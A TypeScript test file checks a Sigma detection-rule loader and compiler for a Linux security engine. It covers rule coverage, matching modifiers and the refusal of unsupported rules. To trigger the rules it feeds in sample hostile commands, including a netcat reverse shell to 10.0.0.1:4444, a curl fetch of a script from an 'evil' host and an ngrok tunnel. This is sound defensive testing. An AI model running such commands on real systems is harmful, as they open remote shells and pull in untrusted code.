import { test } from 'node:test';
import assert from 'node:assert/strict';
import { fileURLToPath } from 'node:url';
import { loadDetections } from '../custom/loader.js';
import { compileSigma } from './compile.js';
import { parseSigma, type SigmaError } from './rule.js';
import { connect, exec, TEST_CONFIG } from '../testing.js';
import { DetectionEngine } from '../engine.js';
import type { AlertV1 } from '@vigil/schema';

const CORPUS = fileURLToPath(new URL('../../../../rules/sigma-linux/', import.meta.url));

test('every SigmaHQ Linux process_creation and network_connection rule loads, or says per rule why not', async () => {
  const r = await loadDetections([CORPUS]);
  const total = r.detections.length + r.problems.length + r.disabled.length;
  assert.equal(total, 127, '122 process_creation + 5 network_connection rules');
  // Off by default (rules/sigma-linux/disabled.txt): high on ordinary training-host work.
  assert.deepEqual(
    r.disabled.map((d) => d.id),
    ['sigma.457df417-8b9d-4912-85f3-9dbda39c3645', 'sigma.818f7b24-0fba-4c49-a073-8b755573b9c7'],
  );
  for (const p of r.problems) {
    assert.equal(p.unsupported, true, `${p.path}: ${p.reason} (a failure, not a known limit)`);
    assert.match(p.reason, /^field LogonId: /);
  }
  assert.equal(
    r.detections.length,
    123,
    'the DestinationHostname ones load (the dns probe names connects); two are off',
  );
  assert.ok(
    r.detections.every((d) => d.source === 'sigma' && d.author && d.author !== 'unknown'),
    'each keeps its author for attribution',
  );
  console.log(
    `# sigma coverage: ${r.detections.length}/${total} loaded, ${r.disabled.length} off by default; unsupported: ${r.problems.map((p) => `${p.path.split('/').pop()} (${p.reason})`).join('; ')}`,
  );
});

async function engineWith(file: string) {
  const r = await loadDetections([`${CORPUS}${file}`]);
  assert.equal(r.problems.length, 0, JSON.stringify(r.problems));
  const alerts: AlertV1[] = [];
  const engine = new DetectionEngine({ config: TEST_CONFIG, onAlert: (a) => alerts.push(a) });
  engine.setDetections(r.detections);
  return { engine, alerts };
}

test('netcat reverse shell rule (all of selection_*, endswith and contains lists)', async () => {
  const { engine, alerts } = await engineWith('process_creation/proc_creation_lnx_netcat_reverse_shell.yml');
  engine.process([exec(['/usr/bin/nc', '10.0.0.1', '4444', '-e', '/bin/sh'], {}, '/usr/bin/nc')]);
  engine.process([exec(['/usr/bin/nc', '-zv', '10.0.0.1', '22'], {}, '/usr/bin/nc')]);
  assert.equal(alerts.length, 1);
  assert.equal(alerts[0]!.source, 'sigma');
  assert.equal(alerts[0]!.severity, 'high');
  assert.match(alerts[0]!.author ?? '', /\w/);
  assert.match(alerts[0]!.reason, /Potential Netcat Reverse Shell Execution.*DRL 1\.1/);
  assert.deepEqual(alerts[0]!.mitre.length > 0, true);
});

test('network_connection rule with "not filter" on DestinationIp', async () => {
  const { engine, alerts } = await engineWith('network_connection/net_connection_lnx_back_connect_shell_dev.yml');
  engine.process([connect('10.1.2.3', 4242, { exe: '/usr/bin/bash', comm: 'bash' })]);
  engine.process([connect('127.0.0.1', 4242, { exe: '/usr/bin/bash', comm: 'bash', pid: 99 })]);
  assert.deepEqual(
    alerts.map((a) => a.proc?.pid),
    [4242],
  );
});

test('DestinationHostname is the name the process resolved the address from (connect.hostname)', async () => {
  const { engine, alerts } = await engineWith('network_connection/net_connection_lnx_ngrok_tunnel.yml');
  const named = connect('10.1.2.3', 443, { pid: 50 }, 'tunnel.us.ngrok.com');
  const unnamed = connect('10.1.2.3', 443, { pid: 51 });
  engine.process([named, unnamed]);
  assert.deepEqual(
    alerts.map((a) => a.proc?.pid),
    [50],
    'a connect without a resolved name does not match',
  );
});

const rule = (detection: string, category = 'process_creation') =>
  parseSigma(`
title: t
id: x-1
author: someone
logsource: { product: linux, category: ${category} }
detection:
${detection}
level: medium
`);

test('modifiers, wildcards, keywords, parentheses, 1 of / all of, cidr, re', () => {
  const m = (d: string, ev: Parameters<DetectionEngine['process']>[0][number], cat?: string) =>
    !!compileSigma(rule(d, cat)).detection.match(ev as never, undefined as never);
  const ev = exec(['/usr/bin/curl', '-sS', 'http://evil/x.sh'], {}, '/usr/bin/curl');
  assert.equal(m(`  sel:\n    Image: '*/cu?l'\n  condition: sel`, ev), true, 'wildcards');
  assert.equal(m(`  sel:\n    Image: '*/CURL'\n  condition: sel`, ev), true, 'case-insensitive');
  assert.equal(m(`  sel:\n    CommandLine|contains|all: ['-sS', 'x.sh']\n  condition: sel`, ev), true);
  assert.equal(m(`  sel:\n    CommandLine|contains|all: ['-sS', 'nope']\n  condition: sel`, ev), false);
  assert.equal(m(`  sel:\n    CommandLine|re: 'https?://[a-z]+/'\n  condition: sel`, ev), true);
  assert.equal(m(`  sel:\n    - 'evil/x'\n  condition: sel`, ev), true, 'keywords');
  assert.equal(
    m(
      `  a:\n    Image|endswith: /curl\n  b:\n    Image|endswith: /wget\n  f:\n    CommandLine|contains: localhost\n  condition: (a or b) and not f`,
      ev,
    ),
    true,
  );
  assert.equal(
    m(`  s_1:\n    Image|endswith: /wget\n  s_2:\n    Image|endswith: /curl\n  condition: 1 of s_*`, ev),
    true,
  );
  assert.equal(
    m(`  s_1:\n    Image|endswith: /wget\n  s_2:\n    Image|endswith: /curl\n  condition: all of them`, ev),
    false,
  );
  assert.equal(
    m(`  sel:\n    DestinationIp|cidr: 10.0.0.0/8\n  condition: sel`, connect('10.200.1.1', 80), 'network_connection'),
    true,
  );
  assert.equal(
    m(`  sel:\n    DestinationIp|cidr: 10.0.0.0/8\n  condition: sel`, connect('11.0.0.1', 80), 'network_connection'),
    false,
  );
  assert.equal(
    m(
      `  sel:\n    CommandLine|base64offset|contains: 'http://evil'\n  condition: sel`,
      exec(['echo', Buffer.from('x http://evil/').toString('base64')]),
    ),
    true,
  );
});

test('plain values (string compare) and wildcard values (RegExp) agree, case-insensitively; |all needs each value, not each variant', () => {
  const m = (d: string, ev: Parameters<DetectionEngine['process']>[0][number]) =>
    !!compileSigma(rule(d)).detection.match(ev as never, undefined as never);
  const ev = exec(['/usr/bin/Python3', '-c', 'import socket,os'], {}, '/usr/bin/Python3');
  for (const [plain, wild] of [
    [`Image|endswith: '/python3'`, `Image: '*/python3'`],
    [`Image|startswith: '/USR/bin/'`, `Image: '/usr/bin/*'`],
    [`CommandLine|contains: 'SOCKET,'`, `CommandLine: '*socket,*'`],
    [`Image: '/usr/bin/python3'`, `Image: '/usr/bin/pytho?3'`],
  ]) {
    assert.equal(m(`  sel:\n    ${plain}\n  condition: sel`, ev), true, plain);
    assert.equal(m(`  sel:\n    ${wild}\n  condition: sel`, ev), true, wild);
  }
  assert.equal(m(`  sel:\n    Image|endswith: '/python'\n  condition: sel`, ev), false);
  assert.equal(m(`  sel:\n    Image: '/usr/bin/python'\n  condition: sel`, ev), false, 'exact is whole-value');
  // windash makes "-c" also match "/c": with |all, one variant per value is enough.
  assert.equal(m(`  sel:\n    CommandLine|windash|contains|all: ['-c', 'import']\n  condition: sel`, ev), true);
  // Two events in a row: the per-event field cache must not leak the first one's values.
  const other = exec(['/usr/bin/ls'], {}, '/usr/bin/ls');
  const d = compileSigma(rule(`  sel:\n    Image|endswith: '/python3'\n  condition: sel`)).detection;
  assert.equal(!!d.match(ev as never, undefined as never), true);
  assert.equal(!!d.match(other as never, undefined as never), false);
});

test('what cannot run is refused with a reason, never silently', () => {
  const why = (d: string, cat?: string) => {
    try {
      compileSigma(rule(d, cat));
      return 'loaded';
    } catch (e) {
      return (e as SigmaError).message;
    }
  };
  assert.match(why(`  sel:\n    SourceIp: 10.0.0.1\n  condition: sel`, 'network_connection'), /source address/);
  assert.match(why(`  sel:\n    Image|fancy: a\n  condition: sel`), /modifier \|fancy/);
  assert.match(why(`  sel:\n    Image: a\n  condition: sel | count() > 5`), /aggregations/);
  assert.match(why(`  sel:\n    Image: a\n  condition: other`), /unknown search "other"/);
  assert.match(why(`  sel:\n    TargetFilename: a\n  condition: sel`, 'file_event'), /logsource file_event/);
  assert.throws(() => parseSigma('title: [unclosed'), /not YAML/);
  assert.throws(() => parseSigma('title: t\nlogsource: {}\n'), /not a Sigma rule/);
});
